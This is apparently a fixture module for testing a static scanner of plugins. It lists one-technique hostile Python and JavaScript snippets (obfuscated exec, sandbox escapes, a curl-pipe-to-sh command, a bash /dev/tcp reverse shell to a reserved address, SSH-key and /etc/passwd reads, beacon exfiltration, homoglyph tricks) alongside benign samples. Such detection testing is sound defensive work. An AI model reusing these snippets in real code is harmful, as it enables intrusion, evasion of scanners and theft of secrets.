"""What the static scan is tried with: small malicious plugins, one technique each, and ordinary packages.

None of the malicious ones is live: their addresses are reserved (RFC 5737).
"""

from __future__ import annotations

import base64
import importlib.metadata
import zlib
from pathlib import Path

_HEAD = "from workers import Plugin\nplugin = Plugin(id='sample', version='1.0.0')\n"
_SHELL = "import os\nos.system('id')\n"
_B64 = base64.b64encode(_SHELL.encode()).decode()
_LONG = base64.b64encode((_SHELL * 20).encode()).decode()

MALICIOUS: dict[str, str] = {
    "system": "import os\nos.system('id')",
    "popen": "import os\nprint(os.popen('id').read())",
    "subprocess-list": "import subprocess\nsubprocess.run(['id'])",
    "subprocess-shell": "import subprocess as s\ndef f(c):\n    return s.check_output(c, shell=True)",
    "fork": "import os\nwhile True:\n    os.fork()",
    "exec-family": "from os import execv\nexecv('/bin/sh', ['sh'])",
    "pty": "import pty\npty.spawn('/bin/sh')",
    "signal-others": "import os\nos.kill(1, 9)",
    "alias": "import os as harmless\nrun = harmless.system\nrun('id')",
    "reference-only": "import os\nHANDLERS = {'go': os.system}",
    "dunder-import": "__import__('os').system('id')",
    "import-module": "import importlib\nimportlib.import_module('os').system('id')",
    "getattr-literal": "import os\ngetattr(os, 'system')('id')",
    "getattr-pieces": "import os\ngetattr(os, 'sys' + 'tem')('id')",
    "getattr-reversed": "import os\ngetattr(os, 'metsys'[::-1])('id')",
    "getattr-join": "import os\ngetattr(os, ''.join(['sy', 'stem']))('id')",
    "getattr-chr": "import os\ngetattr(os, chr(115) + 'ystem')('id')",
    "builtins-table": "__builtins__['ev' + 'al']('1')",
    "globals-table": "globals()['__builtins__']['exec']('x = 1')",
    "vars-module": "import os\nvars(os)['system']('id')",
    "sys-modules": "import sys\nsys.modules['os'].system('id')",
    "exec-base64": f"import base64\nexec(base64.b64decode('{_B64}'))",
    "exec-hex": f"exec(bytes.fromhex('{_SHELL.encode().hex()}'))",
    "exec-zlib": f"import zlib\nexec(zlib.decompress({zlib.compress(_SHELL.encode())!r}))",
    "exec-variable": f"import base64 as b\nx = b.b64decode('{_B64}')\ny = x.decode()\nexec(compile(y, 'x', 'exec'))",
    "exec-rot13": "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))",
    "exec-chr": "exec(''.join(chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115]))",
    "exec-reversed": "exec(\"')di'(metsys.so ;so tropmi\"[::-1])",
    "eval-text": "eval(\"__import__('os').system('id')\")",
    "marshal": "import marshal\nexec(marshal.loads(b'\\xe3\\x00\\x00'))",
    "pickle-constant": "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")",
    "large-payload": f"DATA = '{_LONG}'",
    "subclasses": "().__class__.__base__.__subclasses__()",
    "subclasses-of-object": "[c for c in object.__subclasses__() if c.__name__ == 'Popen']",
    "function-globals": "def f():\n    pass\nf.__init__.__globals__['sys']",
    "builtins-of-function": "print.__self__.__loader__.load_module('os')",
    "getattr-dunder": "getattr(getattr((), '__class__'), '__base__').__subclasses__()",
    "getattribute": "object.__getattribute__(int, '__subclasses__')()",
    "generator-frame": "g = (x for x in [1])\ng.gi_frame.f_back.f_back.f_globals",
    "traceback-frame": "try:\n    1/0\nexcept Exception as e:\n    e.__traceback__.tb_frame.f_back.f_globals['os']",
    "format-string": "'{0.__class__.__init__.__globals__}'.format(plugin)",
    "ctypes": "import ctypes\nctypes.CDLL(None).system(b'id')",
    "ctypes-memory": "import ctypes\nctypes.memmove(0, b'x', 1)",
    "ctypes-string": "from ctypes import string_at\nstring_at(id(plugin), 64)",
    "socket": "import socket\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))",
    "reverse-shell": "import socket, os\ns = socket.socket()\nos.dup2(s.fileno(), 0)",
    "urlopen": "import urllib.request\nurllib.request.urlopen('http://192.0.2.1/x')",
    "urlopen-exec": "import urllib.request as u\nurl = input()\nexec(u.urlopen(url).read())",
    "https": "from http.client import HTTPSConnection\nHTTPSConnection('192.0.2.1')",
    "metadata-service": "URL = 'http://169.254.169.254/latest/meta-data/'",
    "passwd": "print(open('/etc/passwd').read())",
    "process-memory": "open('/proc/self/mem', 'rb')",
    "ssh-key": "from pathlib import Path\nPath('~/.ssh/id_rsa').expanduser().read_text()",
    "curl-pipe": "COMMAND = 'curl -s http://192.0.2.1/x | sh'",
    "bash-reverse": "COMMAND = 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'",
    "miner": "POOL = 'stratum+tcp://192.0.2.1:3333'",
    "bidi": "access = 'user\u202e \u2066# check\u2069 \u2066'\n",
    "look-alike-cyrillic": "def р():\n    pass\np = 1\n",
    "look-alike-mixed": "аdmin = True\nif аdmin:\n    pass",
    "look-alike-nfkc": "ｅｖａｌ('1')",
    "invisible-data": "x = '" + "".join(chr(0xE0100 + b) for b in b"import os; os.system") + "'",
    "patch-builtins": "import builtins\nbuiltins.open = lambda *a: None",
    "patch-sdk": "import workers\nworkers.Plugin = object",
    "patch-modules": "import sys\nsys.modules['json'] = object()",
    "setattr-sdk": "from workers import sdk\nsetattr(sdk, 'Api', object)",
    "tracer": "import sys\nsys.settrace(lambda *a: print(a))",
    "collector": "import gc\n[o for o in gc.get_objects() if isinstance(o, dict)]",
    "power-tower": "x = 10 ** 10 ** 10",
    "huge-text": "x = 'A' * 10**10",
    "undeclared-call": "@plugin.hook('onDataFetch')\ndef f(context):\n    context.api.delete('orders', {})",
    "undeclared-admin": "@plugin.hook('onDataFetch')\ndef f(c):\n    a = c.api\n    a.call('admin.users.list')",
    "undeclared-getattr": (
        "@plugin.hook('onDataFetch')\ndef f(context):\n    getattr(context.api, 'fe' + 'tch')('http://x.org')"),
    "nested-text": "eval('eval(\"__import__(\\'os\\').system(1)\")')",
    "deep-nesting": "x = " + "(" * 5000 + ")" * 5000,
    "deep-unary": "x = " + "-" * 200_000 + "1",
}
"""By technique."""


def malicious_bundle(source: str) -> dict[str, bytes]:
    """The files of a plugin with ``source`` in it."""
    return {"plugin.py": (_HEAD + source + "\n").encode()}


MALICIOUS_JAVASCRIPT: dict[str, str] = {
    "eval-atob": f"eval(atob('{_B64}'))",
    "eval-atob-variable": f"const d = atob('{_B64}'); const t = d.trim(); (0, eval)(t)",
    "function-fromcharcode": "new Function(String.fromCharCode(97, 98))()",
    "function-decoder": "Function(new TextDecoder().decode(c.bytes))()",
    "eval-download": "eval(await (await fetch(c.url)).text())",
    "eval-reversed": "eval(')1(trela'.split('').reverse().join(''))",
    "import-decoded": "await import(atob(c.name))",
    "constructor-decoded": "(() => {}).constructor(atob(c.text))()",
    "constructor-walk": "[].constructor.constructor('return 1')()",
    "constructor-walk-text": "''['constructor']['constructor']('return 1')()",
    "constructor-walk-reference": "const F = [].map.constructor.constructor; F('return 1')()",
    "constructor-pieces": "(() => {})['const' + 'ructor']('return 1')()",
    "eval-pieces": "globalThis['ev' + 'al'](c.text)",
    "eval-join": "globalThis[['e', 'val'].join('')](c.text)",
    "eval-template": "globalThis[`${'ev'}al`](c.text)",
    "eval-chr": "globalThis[String.fromCharCode(101, 118, 97, 108)](c.text)",
    "eval-base64-name": "globalThis[atob('ZXZhbA==')](c.text)",
    "process-pieces": "globalThis['pro' + 'cess'].exit()",
    "patch-array": "Array.prototype.push = function () {}",
    "patch-array-alias": "const P = Array.prototype; P.push = function () {}",
    "patch-object": "Object.defineProperty(Object.prototype, 'x', { value: 1 })",
    "patch-assign": "Object.assign(JSON, { parse: () => 1 })",
    "patch-json": "JSON.parse = () => 1",
    "patch-sdk": "plugin.api.query = async () => []",
    "patch-global": "globalThis.fetch = async () => 1",
    "patch-plugin": "globalThis.plugin = {}",
    "patch-promise": "Promise.prototype['th' + 'en'] = function () {}",
    "patch-by-literal": "Object.getPrototypeOf([]).push = function () {}",
    "patch-delete": "delete Array.prototype.push",
    "proto-pollution": "c.filters.__proto__.admin = true",
    "metadata-service": "await fetch('http://169.254.169.254/latest/meta-data/')",
    "passwd": "return '/etc/passwd'",
    "curl-pipe": "return `curl -s http://192.0.2.1/x | sh`",
    "miner": "return 'stratum+tcp://192.0.2.1:3333'",
    "escaped-text": "return '\\x2fetc\\x2fpasswd'",
    "socket": "new WebSocket('ws://192.0.2.1/')",
    "xhr": "navigator.sendBeacon('http://192.0.2.1/', c.x)",
    "child-process": "(await import('node:child_process')).exec('id')",
    "require-process": "require('child_process').exec('id')",
    "dlopen": "process.dlopen(c.module, 'x.node')",
    "large-payload": f"return '{_LONG}'",
    "packed-payload": "return '" + base64.b64encode(b"\x7fELF" + bytes(range(256))).decode() + "'",
    "bidi": "const access = 'user\u202e \u2066// check\u2069 \u2066'",
    "look-alike-cyrillic": "const р = 1, p = 2; return p",
    "look-alike-eval": "const еval = 1",
    "look-alike-wide": "const ｅｖａｌ = 1",
    "invisible-data": "return '" + "".join(chr(0xE0100 + b) for b in b"import os; os.system") + "'",
    "huge-text": "return 'A'.repeat(10 ** 10)",
    "huge-array": "return new Uint8Array(10_000_000_000)",
    "huge-bigint": "return 7n ** 9999999n",
    "nested-text": "eval(\"eval('JSON.parse = 1')\")",
    "undeclared-call": "await c.api.delete('orders', {})",
    "undeclared-admin": "const a = c.api; await a.call('admin.users.list')",
    "undeclared-pieces": "await plugin.api['fe' + 'tch']('http://x.org')",
}
"""By technique; each stands inside a hook whose context is ``c``."""

ORDINARY_JAVASCRIPT: dict[str, str] = {
    "constructor-of-own": "class A { copy() { return new this.constructor() } } return new A().copy().constructor.name",
    "own-prototype": "function A() {} A.prototype.go = function () {}; A.prototype.constructor = A; return new A()",
    "symbols": "const s = { [Symbol.iterator]: function* () { yield 1 } }; return [...s]",
    "evaluate": "const evaluate = (x) => x + 1; return evaluate(c.x) + c.eval.total",
    "timers": "await new Promise((done) => setTimeout(done, 10))",
    "base64": "return atob(c.text) + JSON.parse(decodeURIComponent(c.more)).x",
    "own-process": "const process = (rows) => rows.length; return process(c.rows)",
    "error": "class Mine extends Error {} Error.captureStackTrace?.(c); throw new Mine('x')",
    "getter": "const o = {}; Object.defineProperty(o, 'x', { get: () => 1 }); return Object.assign({}, o, c.filters)",
    "sizes": "return new Array(1000).fill(0).concat('ab'.repeat(20), 2 ** 31, 1 << 20, 10n ** 18n)",
    "regex": "return /^(?<year>\\d{4})-eval\\(/u.exec(c.text)?.groups",
    "delete-own": "const o = { a: 1 }; delete o.a; return o",
    "umlauts": "const größe = 1, naïve = 'Zürich ✓'; return größe + naïve",
}
"""Code that has nothing to find; each stands inside a hook whose context is ``c``."""


def javascript_bundle(body: str) -> str:
    """The entry point of a plugin with ``body`` in its one hook."""
    return ("export default { id: 'sample', version: '1.0.0', permissions: [], hooks: {\n"
            f"async onDataFetch(c) {{\n{body}\n}} }} }};\n")


ORDINARY_PACKAGES = ("attrs", "click", "idna", "iniconfig", "markdown-it-py", "packaging", "pluggy", "rich", "sqlglot",
                     "typing_extensions")
"""Well-known pure-Python distributions: an error that the scan finds in one of them is a false alarm."""


def package_files(name: str) -> dict[str, bytes]:
    """The Python sources of an installed distribution; empty if it is not installed."""
    try:
        files = importlib.metadata.files(name) or []
    except importlib.metadata.PackageNotFoundError:
        return {}
    return {str(file): Path(str(file.locate())).read_bytes() for file in files
            if str(file).endswith(".py") and not str(file).startswith("..")}
